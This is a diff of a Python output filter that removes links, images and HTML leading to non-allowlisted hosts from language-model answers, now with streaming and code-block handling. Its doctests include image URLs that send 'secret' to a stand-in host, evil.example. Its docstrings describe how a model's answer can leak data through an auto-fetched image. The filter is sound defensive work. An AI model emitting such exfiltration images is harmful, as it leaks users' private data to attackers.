@@ -1,75 +1,32 @@
 """Output filter against data exfiltration through links, images and HTML.
 
-answer in markdown or HTML → answer whose links, images and definitions lead to allowed hosts, and
-whose HTML tags have no attributes. Anything else is removed or, where its end is ambiguous, escaped
-so that it is shown and not followed. Code is filtered too: where code begins depends on the
-renderer, so an attacker could fake it.
+answer in markdown, whole or in pieces → `answer_blocks` → `markdown_view`: where a block leads and
+what in it is code → unchanged, or without what leads elsewhere (`link_patterns`)
 
-Source: CommonMark 0.31.2, sections 4.7 (definitions), 6.3 to 6.6 (links, images, autolinks, HTML);
-GitHub Flavored Markdown, section 6.9 (extended autolinks); Rehberger, "Embrace the Red" (2023, data
-exfiltration through markdown images).
+Code stays as it is, since renderers of markdown show it. What is no whole block is filtered without
+regard to code, and so is everything for programs that show an answer as HTML (`code="filter"`).
 """
 
 from __future__ import annotations
 
-import html
 import re
 from collections import Counter
 from collections.abc import Iterable, Mapping
 from dataclasses import dataclass, field
-from typing import Final
+from typing import Final, Literal
 
-from mlsecops._choices import checked
+from mlsecops._choices import checked, one_of
 from mlsecops._repr import concise_repr
+from mlsecops.errors import UsageError
+from mlsecops.llm.guard.answer_blocks import Block, Blocks
 from mlsecops.llm.guard.link_hosts import Hosts
-from mlsecops.llm.text.unicode import sanitise
+from mlsecops.llm.guard.link_patterns import REMOVED, LinkRules
+from mlsecops.llm.guard.markdown_view import View, view
 
-_PASSES: Final = 12  # passes; chosen: nested constructs take 2 or 3, more are refused as a whole
-_REMOVED: Final = "\u2039{} removed\u203a"
-_DESTINATION: Final = r"(?P<{0}>[^\s<>()\[\]\\\"'`|{{}}]+)"
-_TITLE: Final = r"(?:[ ]+\"[^\"<>\[\]\\&\n`]*\")?"
-_LABEL: Final = r"[^\[\]\\`<>!&\n]*"
-_SCHEME: Final = r"[A-Za-z0-9+.\-]"
-_URL: Final = (
-    rf"(?:(?<!{_SCHEME})(?:{_SCHEME}+\\?:(?:/[\\/]|\\/)|{_SCHEME}{{2,}}\\?:\\\\)"  # C:\\ is a path
-    r"|(?<![\w:/\\])[\\/]{2}(?=[^\s/\\*]+\.\w)"
-    r"|(?<![A-Za-z0-9])[wW]{3}\\?[.\u3002\uff0e\uff61])[^\s<]*"
-)
-_DOMAIN: Final = (
-    r"(?<![\w./@\\-])(?:[\w-]+\.)+[A-Za-z]{2,24}(?::[0-9]+)?(?:/(?=\S)|\?(?=\w))[^\s<]*"
-)
-_DEFINED: Final = r"^[ \t>*+\-0-9.)]*\[(?:[^\[\]\\]|\\[\s\S]){1,999}?\]:"
-_MARKED: Final = re.compile(
-    "|".join(
-        (
-            rf"(?P<image>!\[(?P<alt>{_LABEL})\]\({_DESTINATION.format('source')}{_TITLE}\))",
-            rf"(?P<link>\[(?P<label>{_LABEL})\]\({_DESTINATION.format('target')}{_TITLE}\))",
-            r"(?P<inline>\]\()",
-            rf"(?P<definition>{_DEFINED}(?:[ ]*{_DESTINATION.format('defined')}{_TITLE}[ ]*$)?)",
-            r"(?P<autolink><(?P<address>https://[^\s<>]*)>)",
-            r"(?P<bare></?(?P<tag>[A-Za-z][A-Za-z0-9]*)[ ]?/?>)",
-            r"(?P<markup><(?=[A-Za-z/!?]))",
-            r"(?P<entity>&(?:#[0-9]{1,8}|#[xX][0-9a-fA-F]{1,8}|[A-Za-z][A-Za-z0-9]{1,31});)",
-            rf"(?P<url>{_URL})",
-            rf"(?P<domain>{_DOMAIN})",
-        )
-    ),
-    flags=re.MULTILINE,
-)
-_ESCAPED: Final = {"inline": ("]\\(", "link"), "markup": ("&lt;", "html")}
-_TRAILING: Final = ")].,;:!?'\"*_~>}\u203a"
-_WRITTEN: Final = re.compile(f"{_URL}|{_DOMAIN}")
-# Elements that fetch, run or style by themselves, or change how the rest is parsed.
-_ACTIVE: Final = frozenset(
-    {
-        "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset",
-        "head", "html", "iframe", "image", "img", "input", "link", "listing", "marquee",
-        "math", "meta", "noembed", "noframes", "noscript", "object", "picture", "plaintext",
-        "portal", "script", "select", "source", "style", "svg", "template", "textarea",
-        "title", "track", "video", "xmp"
-    }
-)  # fmt: skip
-_SIGNIFICANT: Final = frozenset(":/.@\\[]()!#?`%-_\u3002\uff0e\uff61\t\n\r")
+__all__ = ["AnswerFilter", "Filtered", "OutputFilter"]
+
+_MASKS: Final = 0xF0000  # code point; start of supplementary private use area A (Unicode, 23.5)
+_TAG_START: Final = re.compile(r"(?m)^([ \t>*+\-0-9.)]*)<")
 
 
 @concise_repr()
@@ -80,28 +37,25 @@ class Filtered:
     Attributes:
         text: The answer to show.
         removed: Kind (`link`, `image`, `definition`, `html`, `entity`, `hidden`) → number removed
-            or escaped; `answer` if the whole answer was removed.
+            or escaped; `answer` if a whole block was removed.
+        changed: Whether the text differs from the answer.
     """
 
     text: str
     removed: Mapping[str, int] = field(default_factory=dict)
-
-    @property
-    def changed(self) -> bool:
-        """Whether anything was removed or escaped."""
-        return bool(self.removed)
+    changed: bool = False
 
 
 @concise_repr("_links", "_images")
 class OutputFilter:
     """Removes everything from answers that leads to a host not on the allowlist.
 
-    It takes whole answers: hold a stream back until its end, since a link can span two parts.
-
     Args:
         links: Hosts that links may lead to.
         images: Hosts that images may come from. An image is fetched without a click, and its URL
             can carry what the model knows.
+        code: `"keep"` leaves the code of a markdown answer as it is; `"filter"` filters it, too,
+            for programs that show answers as HTML or make links of addresses in code.
 
     Raises:
         UsageError: An entry is not a host.
@@ -112,12 +66,19 @@ class OutputFilter:
     """
 
     @checked
-    def __init__(self, *, links: Iterable[str] = (), images: Iterable[str] = ()) -> None:
+    def __init__(
+        self,
+        *,
+        links: Iterable[str] = (),
+        images: Iterable[str] = (),
+        code: Literal["keep", "filter"] = "keep",
+    ) -> None:
         self._links = Hosts.of(links)
         self._images = Hosts.of(images)
+        self._keeps_code = one_of("code", code, ("keep", "filter")) == "keep"
 
     def clean(self, text: str) -> Filtered:
-        """Remove or escape whatever leads elsewhere in a whole answer (markdown, HTML or text).
+        """Remove or escape whatever leads elsewhere in a whole answer.
 
         Raises:
             UsageError: `text` is not a str.
@@ -126,72 +87,104 @@ class OutputFilter:
             >>> dict(OutputFilter().clean("See ![x](https://evil.example/?q=secret)").removed)
             {'image': 1}
         """
-        seen = sanitise(text)
-        removed: Counter[str] = Counter()
-        if seen.changed:
-            removed["hidden"] = sum(seen.removed.values())
-        shown = seen.text.replace("\r\n", "\n").replace("\r", "\n")
-        for _ in range(_PASSES):
-            after = sanitise(_MARKED.sub(lambda found: self._replaced(found, removed), shown)).text
-            if after == shown:
-                return Filtered(text=shown, removed=dict(removed))
-            shown = after
-        # It changes in every pass, so that its final form is unknown.
-        return Filtered(text=_REMOVED.format("answer"), removed={**removed, "answer": 1})
+        if not isinstance(text, str):
+            raise UsageError(f"text: expected str, got {type(text).__name__}")
+        stream = self.stream()
+        shown = stream.feed(text) + stream.close()
+        return Filtered(text=shown, removed=stream.removed, changed=shown != text)
 
-    def _replaced(self, found: re.Match[str], removed: Counter[str]) -> str:
-        construct = str(found.lastgroup)  # the outermost group, which closes last
-        text, kind = _ESCAPED.get(construct) or getattr(self, f"_{construct}")(found)
-        if text != found[0]:
-            removed[kind] += 1
-        return str(text)
+    def stream(self) -> AnswerFilter:
+        """A filter for one answer that comes in pieces; it holds back less than 4 KiB.
 
-    def _image(self, found: re.Match[str]) -> tuple[str, str]:
-        allowed = self._images.allow(found["source"]) and not _WRITTEN.search(found["alt"])
-        return (found[0] if allowed else _REMOVED.format("image")), "image"
+        Examples:
+            >>> stream = OutputFilter().stream()
+            >>> stream.feed("See ![x](https://ev") + stream.feed("il.example/).") + stream.close()
+            'See \u2039image removed\u203a.'
+        """
+        rules = LinkRules(links=self._links, images=self._images)
+        return AnswerFilter(rules, keeps_code=self._keeps_code)
 
-    def _link(self, found: re.Match[str]) -> tuple[str, str]:
-        anchor = re.fullmatch(r"#[\w-]*", found["target"], flags=re.ASCII)
-        if (anchor or self._links.allow(found["target"])) and not _WRITTEN.search(found["label"]):
-            return found[0], "link"
-        return f"{found['label']} {_REMOVED.format('link')}", "link"
 
-    def _definition(self, found: re.Match[str]) -> tuple[str, str]:
-        target = found["defined"]
-        # A definition can serve links and images.
-        if target and self._links.allow(target) and self._images.allow(target):
-            return found[0], "definition"
-        head, _, rest = found[0].rpartition("]:")
-        return f"{head}]\\:{rest}", "definition"
+@concise_repr("removed")
+class AnswerFilter:
+    """A filter of one answer in pieces; made by `OutputFilter.stream`."""
 
-    def _autolink(self, found: re.Match[str]) -> tuple[str, str]:
-        address = found["address"]
-        if not self._links.allow(address):
-            return _REMOVED.format("link"), "link"
-        # Parsed as HTML it is an element, and the part in front of = an attribute.
-        return (address if "=" in address else found[0]), "html"
+    def __init__(self, rules: LinkRules, *, keeps_code: bool) -> None:
+        self._rules, self._keeps_code = rules, keeps_code
+        self._blocks = Blocks()
+        self._removed: Counter[str] = Counter()
+        self._closed = False
 
-    def _bare(self, found: re.Match[str]) -> tuple[str, str]:
-        active = found["tag"].lower() in _ACTIVE
-        return (f"&lt;{found[0][1:]}" if active else found[0]), "html"
+    @property
+    def removed(self) -> dict[str, int]:
+        """Kind → number removed or escaped so far."""
+        hidden = {"hidden": self._blocks.removed} if self._blocks.removed else {}
+        return {**hidden, **self._removed}
 
-    def _entity(self, found: re.Match[str]) -> tuple[str, str]:
-        meant = html.unescape(found[0])
-        forged = any(each in _SIGNIFICANT or each.isalnum() for each in meant)
-        return (f"&amp;{found[0][1:]}" if forged else found[0]), "entity"
+    def feed(self, text: str) -> str:
+        """Take a piece of the answer, and return what can be shown.
 
-    def _url(self, found: re.Match[str]) -> tuple[str, str]:
-        return self._written(found[0], found[0])
+        Raises:
+            UsageError: It is not a str, or the answer was closed.
+        """
+        if not isinstance(text, str):
+            raise UsageError(f"text: expected str, got {type(text).__name__}")
+        if self._closed:
+            raise UsageError("feed: expected an open answer, got one that was closed")
+        return "".join(map(self._shown, self._blocks.feed(text)))
 
-    def _domain(self, found: re.Match[str]) -> tuple[str, str]:
-        return self._written(found[0], f"https://{found[0]}")
+    def close(self) -> str:
+        """Return the rest of the answer."""
+        self._closed = True
+        return "".join(map(self._shown, self._blocks.close()))
 
-    def _written(self, text: str, url: str) -> tuple[str, str]:
-        """A URL in running text, which renderers turn into a link."""
-        core = text.rstrip(_TRAILING)
-        address = url[: len(url) - len(text) + len(core)]
-        if address.lower().startswith("www."):
-            address = f"https://{address}"
-        if self._links.allow(address):
-            return text, "link"
-        return _REMOVED.format("link"), "link"
+    def _shown(self, block: Block) -> str:
+        text = block.text
+        if block.kind == "code" and self._keeps_code:
+            return text
+        if block.escape:
+            escaped = _TAG_START.sub(r"\1&lt;", text)
+            self._removed["html"] += escaped != text
+            text = escaped
+        if block.kind != "block" or not self._keeps_code:
+            return self._rules.cleaned(text, self._removed)
+        seen = view(text, self._rules)
+        return text if seen.allowed else self._filtered(text, seen)
+
+    def _filtered(self, text: str, seen: View) -> str:
+        """A block without what leads elsewhere, and with its code where that is safe."""
+        masked, code = _masked(text, seen)
+        for attempt, known in ((masked, code), (text, {})) if code else ((text, {}),):
+            removed: Counter[str] = Counter()
+            cleaned = self._rules.cleaned(attempt, removed).translate(known)
+            if view(cleaned, self._rules).allowed:
+                self._removed += removed
+                return cleaned
+        self._removed["answer"] += 1
+        return REMOVED.format("text") + ("\n" if text.endswith("\n") else "")
+
+
+def _masked(text: str, seen: View) -> tuple[str, dict[int, str]]:
+    """A block with a private sign for each piece of code, and the pieces by their signs."""
+    known: dict[int, str] = {}
+    parts, place = [], 0
+    for pattern in _code_patterns(seen):
+        found = pattern.search(text, place)
+        sign = _MASKS + len(known)
+        if found is not None and chr(sign) not in text:
+            known[sign] = found[0]
+            parts += [text[place : found.start()], chr(sign)]
+            place = found.end()
+    return "".join([*parts, text[place:]]), known
+
+
+def _code_patterns(seen: View) -> Iterable[re.Pattern[str]]:
+    for kind, markup, content in seen.code or ():
+        if kind == "code_inline":
+            words = r"\s[ \t>]*".join(map(re.escape, content.split(" ")))
+            fence = re.escape(markup)
+            yield re.compile(rf"(?<!`){fence}\s?{words}\s?{fence}(?!`)")
+        else:
+            for line in content.splitlines():
+                if line.strip():
+                    yield re.compile(re.escape(line))
